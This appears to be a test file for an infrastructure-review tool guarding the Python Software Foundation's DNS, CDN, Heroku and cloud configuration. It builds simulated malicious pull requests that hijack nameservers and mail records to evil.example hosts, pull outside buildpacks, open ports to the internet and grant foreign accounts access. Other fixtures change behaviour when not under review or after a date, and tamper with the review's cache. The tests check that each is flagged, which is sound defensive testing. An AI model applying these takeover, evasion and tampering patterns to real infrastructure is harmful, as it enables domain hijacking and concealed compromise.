/*
 * Pull requests a reviewer of the PSF's infrastructure must not miss, each a commit on a branch of a fresh clone of
 * this repository, reviewed with this checkout's code through the real Terraform and the provider twin: each makes the
 * review exit 1 and names its danger. And the everyday changes that must pass with exit 0.
 *
 * Changes that do not get in each other's way share a branch (a review of the whole estate costs seconds): the dangers
 * are judged resource by resource, so each is named on its own whatever else the branch does.
 */
import { spawn } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { todayUtc } from "../../review/allowances";
import type { ReviewReport } from "../../review/report";
import type { Danger } from "../../review/verdict";
import { estateClone } from "../support/estate-clone";
import { holdLock } from "../support/exclusive";

const repoRoot = join(__dirname, "..", "..");

/**
 * The review as `npm run review` runs it, in a process of its own with a TMPDIR of its own: a branch here writes into
 * whatever review folders it finds beside its own, and must not find those of the other tests running meanwhile.
 */
async function reviewOf(clone: string): Promise<{ status: number; report: ReviewReport; tmp: string }> {
  const tmp = mkdtempSync(join(tmpdir(), "attack-review-"));
  const output = join(tmp, "review.json");
  const status = await new Promise<number>((resolve) => {
    const child = spawn(
      process.execPath,
      [
        "--require",
        "tsx/cjs",
        join(repoRoot, "scripts", "review.ts"),
        "--head-src",
        clone,
        "--base",
        "main",
        "--format",
        "json",
        "--output",
        output,
        "--quiet",
      ],
      {
        cwd: repoRoot,
        env: { ...process.env, TMPDIR: tmp, TSX_DISABLE_CACHE: "1" },
        stdio: ["ignore", "ignore", "inherit"],
      },
    );
    child.once("close", (code) => resolve(code ?? -1));
  });
  return { status, report: JSON.parse(readFileSync(output, "utf8")) as ReviewReport, tmp };
}

const named = (report: ReviewReport, cls: Danger["class"], kind: string, match: RegExp = /./): Danger[] =>
  report.dangers.filter((d) => d.class === cls && d.kind === kind && match.test(`${d.name} ${d.subject} ${d.detail}`));

/** `text` with a copy, edited, of the object literal around `marker` inserted after it (braces matched). */
function withCopy(text: string, marker: string, edit: (row: string) => string): string {
  const at = text.indexOf(marker);
  if (at < 0) throw new Error(`no ${marker}`);
  const start = text.lastIndexOf("{", at);
  let depth = 0;
  let end = start;
  for (; end < text.length; end++) {
    if (text[end] === "{") depth++;
    if (text[end] === "}" && --depth === 0) break;
  }
  const row = text.slice(start, end + 1);
  return `${text.slice(0, end + 1)},\n  ${edit(row)}${text.slice(end + 1)}`;
}

const days = (n: number): string => new Date(Date.now() + n * 86_400_000).toISOString().slice(0, 10);

describe("a branch that takes over, exposes, executes, silences and hides", () => {
  const marker = join(mkdtempSync(join(tmpdir(), "provisioner-")), "ran");
  let review: { status: number; report: ReviewReport; tmp: string };
  beforeAll(async () => {
    const clone = estateClone({
      message: "Tidy the estate",
      files: {
        // An exception the change grants itself, within the 180 days the schema accepts.
        // SPF +all, with an exception the change grants itself (within the 180 days the head's own schema accepts).
        "inventory/zones.ts": (text) =>
          text.replace(
            'name: "python.org", purpose: "The Python language\'s home", spf: "v=spf1 mx a:mail.python.org ~all",',
            `name: "python.org", purpose: "The Python language's home", spf: "v=spf1 mx a:mail.python.org +all", policyExceptions: [{ rule: "dns.no-spf-plus-all", reason: "a mail provider needs to send for us while we migrate", owner: "infrastructure-staff", granted: "${todayUtc()}", expires: "${days(30)}" }],`,
          ),
        "cdktf.json": (text) => text.replace('"app": "node scripts/synth-app.mjs"', '"app": "node scripts/synth-app.mjs && true"'),
        "package.json": (text) => text.replace('"typecheck": "tsc --noEmit"', '"typecheck": "tsc --noEmit || true"'),
      },
      afterSynthesis: `
patch("gandi", (c) => { (Object.values(c.resource.gandi_nameservers).find((n: any) => n.domain === "python.org") as any).nameservers = ["ns1.evil.example", "ns2.evil.example"]; });
patch("dns", (c) => {
  record(c, "python.org", "A").records = ["93.184.216.34"];
  record(c, "www.python.org", "CNAME").records = ["dualstack.python.map.fast1y.net"];
  record(c, "python.org", "CAA").records.push('0 issue "evil-ca.example"');
  delete c.resource.aws_route53_record[recordKey(c, "python.org", "MX")];
  const doc = Object.values(c.data.aws_iam_policy_document)[0] as any;
  doc.statement.push({ sid: "Friend", actions: ["kms:*"], principals: [{ type: "AWS", identifiers: ["arn:aws:iam::111122223333:root"] }], resources: ["*"] });
  c.terraform.required_providers.aws.version = ">= 6.25.0";
});
patch("static-sites", (c) => {
  const doc = Object.values(c.data.aws_iam_policy_document)[0] as any;
  doc.statement.push({ sid: "Upload", actions: ["s3:PutObject"], principals: [{ type: "*", identifiers: ["*"] }], resources: doc.statement[0].resources });
});
patch("fastly", (c) => {
  const www = Object.values(c.resource.fastly_service_vcl).find((s: any) => s.name === "www.python.org") as any;
  www.header.push({ name: "ftp mirror", action: "set", type: "response", destination: "http.Location", source: '"https://downloads.evil.example" + req.url', priority: 5 });
  www.snippet = [...(www.snippet ?? []), { name: "ftp", type: "recv", priority: 50, content: 'if (req.url ~ "^/ftp/") { set req.http.host = "mirror.evil.example"; }' }];
  c.output.origin_token = { value: "\${nonsensitive(var.fastly_origin_token)}" };
});
patch("heroku", (c) => {
  const app = Object.values(c.resource.heroku_app).find((a: any) => a.name === "pythondotorg") as any;
  app.buildpacks = [...app.buildpacks, "https://github.com/evil/buildpack"];
  app.config_vars = { ...app.config_vars, DEPLOY_HOOK: "3f9a1c07be52d48e6a0f93c1d7b2e85a4c6f0d19" };
});
patch("pingdom", (c) => { for (const check of Object.values(c.resource.pingdom_check) as any[]) check.paused = true; });
patch("datadog", (c) => { for (const m of Object.values(c.resource.datadog_monitor) as any[]) m.message = m.message.replace(/@pagerduty-\\S+/g, ""); });
patch("pagerduty", (c) => { const p = Object.values(c.resource.pagerduty_escalation_policy)[0] as any; p.rule = p.rule.slice(1); });
patch("digitalocean-ams1", (c) => {
  const fw = Object.values(c.resource.digitalocean_firewall)[0] as any;
  fw.inbound_rule.push({ protocol: "tcp", port_range: "5432", source_addresses: ["0.0.0.0/1", "128.0.0.0/1"] });
  const droplet = Object.values(c.resource.digitalocean_droplet)[0] as any;
  droplet.lifecycle = { ...droplet.lifecycle, ignore_changes: "all" };
  c.resource.terraform_data = { run: { provisioner: [{ "local-exec": { command: "touch ${marker}" } }] } };
});
patch("digitalocean-nyc3", (c) => { c.data = { ...(c.data ?? {}), external: { probe: { program: ["sh", "-c", "touch ${marker}; echo {}"] } } }; });
// Behind locals (values/remote-state-locals.ts): the local through which dns reads digitalocean-nyc1 made to carry an
// outside address too, read by an A record that read an estate droplet's (through the local, or the remote state where
// main's stacks read it directly); and a /0 in a local of the change's own, read by a firewall rule.
patch("dns", (c) => {
  const read = "cross-stack-reference-input-digitalocean-nyc1";
  c.locals = { ...(c.locals ?? {}), [read]: '\${merge(data.terraform_remote_state.' + read + '.outputs, { mirror = "93.184.216.35" })}' };
  const readsNyc1 = (value: string): boolean => value.startsWith("\${local." + read + ".") || value.startsWith("\${data.terraform_remote_state." + read + ".outputs.");
  const a = Object.values(c.resource.aws_route53_record).find((r: any) => r.type === "A" && r.name !== "python.org" && readsNyc1(String(r.records?.[0]))) as any;
  a.records = ["\${local." + read + ".mirror}"];
});
patch("digitalocean-nyc1", (c) => {
  c.locals = { ...(c.locals ?? {}), trusted: "0.0.0.0/0" };
  (Object.values(c.resource.digitalocean_firewall)[0] as any).inbound_rule.push({ protocol: "tcp", port_range: "6379", source_addresses: ["\${local.trusted}"] });
});
`,
    });
    review = await reviewOf(clone);
  }, 300_000);

  it("fails the review", () => {
    expect(review.status).toBe(1);
  });

  it.each([
    ["the registrar's name servers of python.org", "registrar-nameservers-changed", /python\.org/],
    ["the apex A at an outside address", "points-outside", /python\.org A now points at 93\.184\.216\.34/],
    ["www.python.org's CNAME at a look-alike", "points-outside", /www\.python\.org CNAME now points at dualstack\.python\.map\.fast1y\.net/],
    ["python.org's MX deleted", "mail-removed", /python\.org/],
    ["SPF +all", "spf-loosened", /\+all/],
    ["a CAA issuer added", "caa-issuer-added", /evil-ca\.example/],
    ["a Fastly redirect of /ftp/ elsewhere", "redirect-outside", /downloads\.evil\.example/],
    ["a VCL snippet sending /ftp/ elsewhere", "vcl-outside", /mirror\.evil\.example/],
    ["an outside buildpack for www.python.org", "buildpack-outside", /github\.com\/evil\/buildpack/],
    ["kms:* for an outside account on the DNSSEC key", "outside-principal", /111122223333/],
    ["s3:PutObject for anyone on the website bucket", "public-write", /s3:PutObject/],
    ["an A record at an outside address behind the local of a remote state", "points-outside", /now points at 93\.184\.216\.35/],
  ])("names a takeover: %s", (_what, kind, match) => {
    expect(named(review.report, "takeover", kind, match)).not.toEqual([]);
  });

  it.each([
    ["a port opened by two /1s", "opens-wide", /tcp 5432/],
    ["a port opened to a /0 behind a local", "opens-wide", /tcp 6379/],
    ["an output that unmasks the origin token", "output-unmasked", /origin_token/],
    ["a 40-character hex token in a plain config var", "secret-in-configuration", /config_vars\.DEPLOY_HOOK/],
  ])("names an exposure: %s", (_what, kind, match) => {
    expect(named(review.report, "exposure", kind, match)).not.toEqual([]);
  });

  it("does not show the token it found", () => {
    expect(JSON.stringify(review.report)).not.toContain("3f9a1c07be52d48e6a0f93c1d7b2e85a4c6f0d19");
  });

  it("names every paused uptime check, every monitor that lost its page, and the staff level removed", () => {
    expect(named(review.report, "silencing", "check-paused").length).toBeGreaterThanOrEqual(33);
    expect(named(review.report, "silencing", "notification-removed", /@pagerduty-/).length).toBeGreaterThan(0);
    expect(named(review.report, "silencing", "escalation-reduced", /2 levels to 1/)).not.toEqual([]);
  });

  it.each([
    ["a provisioner", "provisioner", /terraform_data\.run/],
    ["a terraform_data", "execution-resource", /terraform_data\.run/],
    ["a provider outside the pinned set (external)", "provider-unpinned", /external/],
    ["a loosened provider pin", "provider-constraint", />= 6\.25\.0/],
    ["a changed cdktf.json app", "build-changed", /cdktf\.json/],
    ["changed package.json scripts", "build-changed", /package\.json's scripts/],
  ])("names code execution: %s", (_what, kind, match) => {
    expect(named(review.report, "code-execution", kind, match)).not.toEqual([]);
  });

  it("never runs the provisioner or the external program, during the review or the rehearsal of stacks others read", () => {
    expect(existsSync(marker)).toBe(false);
    expect(review.report.notes).toContainEqual(expect.objectContaining({ kind: "not-planned", stack: "digitalocean-nyc3" }));
  });

  it("names lifecycle.ignore_changes = all", () => {
    expect(named(review.report, "hiding", "lifecycle-ignores-all")).not.toEqual([]);
  });

  it("judges with the base's policy: the deleted rule still applies, the change's own exception is only requested", () => {
    expect(named(review.report, "policy", "dns.no-spf-plus-all")).not.toEqual([]);
    // A source behind a local that is not a remote state's outputs counts as the whole internet.
    expect(named(review.report, "policy", "network.world-ports-declared", /6379.*local\.trusted/)).not.toEqual([]);
    expect(review.report.notes).toContainEqual(expect.objectContaining({ kind: "exception-requested", subject: "dns.no-spf-plus-all" }));
  });

  it("lists the dangers first in every format, none allowed", () => {
    expect(review.report.dangers.every((d) => d.allowedBy === undefined)).toBe(true);
  });
});

describe("a branch whose synthesis differs where it is deployed, and tampers with the review", () => {
  let review: { status: number; report: ReviewReport; tmp: string };
  beforeAll(async () => {
    // Its synthesis changes names only where a deploy runs it; after its own synthesis it copies its output over any
    // review's copy of the base's, and empties a base state in the review's cache; it also deletes the rule its SPF
    // change breaks from its own policy (the review runs the base's).
    const clone = estateClone({
      message: "Refactor synthesis and retire the backup volume",
      files: { "policy/rules/dns.ts": (text) => text.replace("CAA_ALLOWS_USED_CAS, NO_SPF_PLUS_ALL,", "CAA_ALLOWS_USED_CAS,") },
      afterSynthesis: `
if (!process.cwd().includes("psf-review")) patch("dns", (c) => { record(c, "www.python.org", "CNAME").records = ["www.evil.example"]; });
if (Date.now() > Date.parse("${days(30)}")) patch("dns", (c) => { record(c, "docs.python.org", "CNAME").records = ["docs.evil.example"]; });
if ((Reflect.get(process, "env") as Record<string, string | undefined>)["AWS_PROFILE"] !== undefined) patch("heroku", (c) => { (Object.values(c.resource.heroku_app)[0] as any).buildpacks = ["https://github.com/evil/buildpack"]; });
if (process.env.PSF_ESTATE_BACKEND === "cloud") patch("gandi", (c) => { c.data.terraform_remote_state["cross-stack-reference-input-dns"] = { backend: "http", config: { address: "https://state.evil.example/dns" } }; });
patch("dns", (c) => { record(c, "python.org", "TXT").records = ["v=spf1 +all"]; record(c, "python.org", "MX").records = ["10 mx.evil.example"]; });
patch("digitalocean-sfo1", (c) => { delete c.resource.digitalocean_volume; delete c.resource.digitalocean_volume_attachment; });
const __path = require("node:path");
// Its own TMPDIR is a folder of its own; the review's scratch folders sit two levels up from where it runs.
const __tmp = __path.resolve(process.cwd(), "..", "..");
for (const dir of __fs.readdirSync(__tmp)) {
  const base = __path.join(__tmp, dir, "base", "out");
  if (dir.startsWith("psf-review-") && __fs.existsSync(base)) { __fs.cpSync(__out, base, { recursive: true }); __fs.writeFileSync(__path.join(__tmp, "copied-over"), dir); }
}
const __cache = __path.join(__path.dirname(__fs.realpathSync("node_modules/cdktf")), ".cache", "psf-estate", "review-base");
if (__fs.existsSync(__cache)) for (const entry of __fs.readdirSync(__cache)) {
  const state = __path.join(__cache, entry, "terraform.digitalocean-sfo1.tfstate");
  if (__fs.existsSync(state)) __fs.writeFileSync(state, "");
}
`,
    });
    // It tampers with every review's scratch folders in the shared TMPDIR and with the base-state cache: no other
    // test file's review runs meanwhile (the other review files hold the same lock while they run).
    const release = await holdLock("review-tests");
    try {
      review = await reviewOf(clone);
    } finally {
      release();
    }
  }, 900_000);

  it("fails the review", () => {
    expect(review.status).toBe(1);
  });

  it("names the stacks a deploy would synthesize differently: by working directory and environment, and by date", () => {
    const differs = review.report.dangers.filter((d) => d.kind === "deploy-differs");
    expect(differs).toContainEqual(expect.objectContaining({ stack: "dns", detail: expect.stringMatching(/as a deploy would/) }));
    expect(differs).toContainEqual(expect.objectContaining({ stack: "heroku", detail: expect.stringMatching(/as a deploy would/) }));
    expect(differs).toContainEqual(expect.objectContaining({ stack: "dns", detail: expect.stringMatching(/clock 90 days ahead/) }));
  });

  it("names a remote-state read from outside the estate in the deployed synthesis", () => {
    expect(named(review.report, "takeover", "reads-outside-state", /state\.evil\.example/)).not.toEqual([]);
  });

  it("names python.org's MX pointed outside", () => {
    expect(named(review.report, "takeover", "points-outside", /python\.org MX now points at mx\.evil\.example/)).not.toEqual([]);
  });

  it("names the tampering with the review's cache", () => {
    expect(named(review.report, "hiding", "review-tampered", /review-base/)).not.toEqual([]);
  });

  it("still sees what the change destroys: the copy over its scratch output and the emptied cache changed nothing it read", () => {
    expect(existsSync(join(review.tmp, "copied-over"))).toBe(true);
    expect(named(review.report, "destruction", "destroys-protected", /digitalocean_volume\.backup/)).not.toEqual([]);
  });

  it("judges with the base's policy, whose rule the change deleted from its own", () => {
    expect(named(review.report, "policy", "dns.no-spf-plus-all")).not.toEqual([]);
  });
});

describe("everyday changes", () => {
  let review: { status: number; report: ReviewReport; tmp: string };
  beforeAll(async () => {
    const clone = estateClone({
      message: "Everyday changes",
      files: {
        // A second host of a role (mail-2 in ams1).
        "inventory/hosts.ts": (text) => withCopy(text, 'name: "mail", datacenter: "ams1"', (row) => row.replace('name: "mail"', 'name: "mail-2"')),
        // A new name on an estate app.
        "inventory/heroku.ts": (text) => text.replace('customDomains: ["us.pycon.org"]', 'customDomains: ["us.pycon.org", "2027.us.pycon.org"]'),
        "inventory/services.ts": (text) => text.replace('names: ["us.pycon.org"]', 'names: ["us.pycon.org", "2027.us.pycon.org"]'),
        // A new zone.
        "inventory/zones.ts": (text) =>
          withCopy(text, 'name: "pypy.org"', (row) =>
            row.replace('name: "pypy.org"', 'name: "pythonsoftwarefoundation.org"').replace('"The PyPy project"', '"The PSF\'s long name"'),
          ),
      },
      afterSynthesis: `
patch("dns", (c) => { const mx = record(c, "python.org", "MX"); mx.records = ["20 mail.python.org"]; mx.ttl = 7200; });
patch("pagerduty", (c) => { for (const s of Object.values(c.resource.pagerduty_schedule) as any[]) for (const l of s.layer) l.rotation_turn_length_seconds = 1209600; });
patch("fastly", (c) => { const www = Object.values(c.resource.fastly_service_vcl).find((s: any) => s.name === "www.python.org") as any; www.header.push({ name: "Robots", action: "set", type: "response", destination: "http.X-Robots-Tag", source: '"noarchive"', priority: 100 }); });
`,
    });
    review = await reviewOf(clone);
  }, 300_000);

  it("passes with exit 0 and no danger", () => {
    expect(review.report.dangers).toEqual([]);
    expect(review.status).toBe(0);
  });

  it("shows each of them", () => {
    const changes = review.report.stacks.flatMap((s) => [...s.changes.map((c) => c.name), ...s.groups.flatMap((g) => g.names)]);
    expect(changes).toEqual(
      expect.arrayContaining(["mail-2.ams1.psf.io", "python.org MX", "www.python.org", "2027.us.pycon.org CNAME", "pythonsoftwarefoundation.org"]),
    );
  });
});
